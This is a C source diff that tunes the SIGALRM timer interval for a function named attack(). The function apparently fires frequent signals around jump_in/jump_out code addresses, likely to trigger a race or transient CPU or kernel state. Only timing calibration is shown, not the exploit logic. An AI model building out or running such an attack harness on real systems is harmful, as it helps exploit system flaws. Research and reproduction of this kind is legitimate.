@@ -11,10 +11,28 @@ static void on_tick(int sig)
 	ticks++;
 }
 
+/*
+ * Microseconds between signals: short, but so long that something gets done
+ * between them where each costs a thousand times more than usual.
+ */
+static long interval(void)
+{
+	struct timespec from, to;
+	long cost;
+
+	clock_gettime(CLOCK_MONOTONIC, &from);
+	for (int i = 0; i < 4; i++)
+		raise(SIGALRM);
+	clock_gettime(CLOCK_MONOTONIC, &to);
+	cost = ((to.tv_sec - from.tv_sec) * 1000000 + (to.tv_nsec - from.tv_nsec) / 1000) / 4;
+	ticks = 0;
+	return cost * 5 < 100 ? 100 : cost * 5;
+}
+
 int attack(void)
 {
 	struct sigaction sa = { .sa_handler = on_tick, .sa_flags = SA_ONSTACK | SA_RESTART };
-	struct itimerval every = { { 0, 100 }, { 0, 100 } };
+	struct itimerval every;
 	const uint64_t *in = (uint64_t *)&jump_in, *out = (uint64_t *)&jump_out;
 	pid_t pid = getpid();
 	uint64_t x = 88172645463325252;
@@ -22,6 +40,9 @@ int attack(void)
 	time_t end;
 
 	MUST(sigaction(SIGALRM, &sa, NULL));
+	every.it_interval.tv_sec = 0;
+	every.it_interval.tv_usec = interval();
+	every.it_value = every.it_interval;
 	MUST(setitimer(ITIMER_REAL, &every, NULL));
 	clock_gettime(CLOCK_MONOTONIC, &t);
 	end = t.tv_sec + 3;
